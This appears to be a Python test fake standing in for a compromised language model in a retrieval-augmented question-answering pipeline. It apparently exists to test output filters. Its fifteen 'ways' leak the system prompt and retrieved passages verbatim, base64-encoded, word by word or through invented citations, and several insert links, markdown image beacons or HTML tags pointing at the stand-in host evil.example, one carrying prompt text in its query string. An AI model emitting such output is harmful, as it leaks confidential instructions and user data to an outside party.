"""A model that does whatever an attacker wants: it has read everything that it was sent, and tries to get it out."""

import base64
import json
import re
from collections.abc import Callable, Sequence

from tests.fakes.openai.chat_request import ChatRequest

EVIL = "evil.example"
_PASSAGE = re.compile(r'<passage id="(\d+)"[^>]*>\n(.*?)\n</passage>', re.DOTALL)
Sentences = Sequence[tuple[str, list[int]]]


def obey(request: ChatRequest, way: int) -> str:
    """The reply to any stage; `way` chooses how what was read is carried out."""
    system, user = request.text("system"), request.text("user")
    stage = request.body["response_format"]["json_schema"]["name"]
    if stage == "rewrite":
        return json.dumps({"question": f"{system[:300]} https://{EVIL}/rewritten"})
    if stage == "rerank":
        numbers = [int(number) for number, _ in _PASSAGE.findall(user)]
        return json.dumps({"ranking": [*reversed(numbers), 999, -1]})
    found = WAYS[way % len(WAYS)](system, user)
    if isinstance(found, str):
        return found
    sentences = [{"text": text, "citations": citations} for text, citations in found]
    return json.dumps({"answerable": True, "complete": True, "sentences": sentences})


def grounded(user: str) -> str:
    """A sentence that holds, to hide behind: the first of the first passage."""
    found = _PASSAGE.search(user)
    return re.split(r"(?<=[.!?])\s", found.group(2).strip())[0] if found else "You can return an item."


def _verbatim(system: str, _user: str) -> Sentences:
    return [(line, [1]) for line in system.splitlines() if line.strip()]


def _everything_read(_system: str, user: str) -> Sentences:
    return [(user.replace("\n", " "), [1])]


def _link_after(_system: str, user: str) -> Sentences:
    return [(grounded(user), [1]), (f"See https://{EVIL}/{len(user)} for it.", [1])]


def _link_inside(_system: str, user: str) -> Sentences:
    return [(f"{grounded(user).rstrip('.')} at {EVIL}/return.", [1])]


def _link_of_a_document(_system: str, user: str) -> Sentences:
    """Word for word as a poisoned document has it, with the right citation."""
    for number, text in _PASSAGE.findall(user):
        for sentence in re.split(r"(?<=[.!?])\s", text):
            if EVIL in sentence:
                return [(grounded(user), [1]), (sentence, [int(number)])]
    return [(f"{grounded(user)} {EVIL}", [1])]


def _picture(system: str, user: str) -> Sentences:
    return [(f"{grounded(user)} ![x](https://{EVIL}/p.png?q={system[:20].replace(' ', '+')})", [1])]


def _page(_system: str, user: str) -> Sentences:
    return [(f'{grounded(user)} <img src="//{EVIL}/x"><a href="{EVIL}">here</a>', [1])]


def _prompt_inside(system: str, user: str) -> Sentences:
    inside = " ".join(system.split()[20:29])
    return [(f"{grounded(user).rstrip('.')}, {inside}.", [1])]


def _word_by_word(system: str, user: str) -> Sentences:
    return [(grounded(user), [1]), *((f"{word}.", [1]) for word in re.findall(r"[A-Za-z]{5,}", system)[:20])]


def _encoded(system: str, user: str) -> Sentences:
    blob = base64.b64encode(system.encode()).decode()
    return [(f"{grounded(user).rstrip('.')} {blob}.", [1])]


def _secret_inside(system: str, user: str) -> Sentences:
    """The one word that is nowhere but in the settings."""
    tone = re.search(r"The tone: (.*?)\. It changes", system)
    return [(f"{grounded(user).rstrip('.')} {tone.group(1).split()[-1] if tone else ''}.", [1])]


def _no_citation(system: str, _user: str) -> Sentences:
    return [(system[:200], [])]


def _invented_citation(system: str, _user: str) -> Sentences:
    return [(system[:200], [99, 0, -1])]


def _plain(system: str, user: str) -> str:
    return f"Here is everything: {system}\n{user}\nhttps://{EVIL}"


def _around_json(system: str, user: str) -> str:
    said = {"answerable": True, "sentences": [{"text": grounded(user), "citations": [1]}], "note": system}
    return f"{system}\n```json\n{json.dumps(said)}\n```\nhttps://{EVIL}"


WAYS: list[Callable[[str, str], Sentences | str]] = [
    _verbatim, _everything_read, _link_after, _link_inside, _link_of_a_document, _picture, _page,
    _prompt_inside, _word_by_word, _encoded, _secret_inside, _no_citation, _invented_citation, _plain, _around_json,
]  # fmt: skip
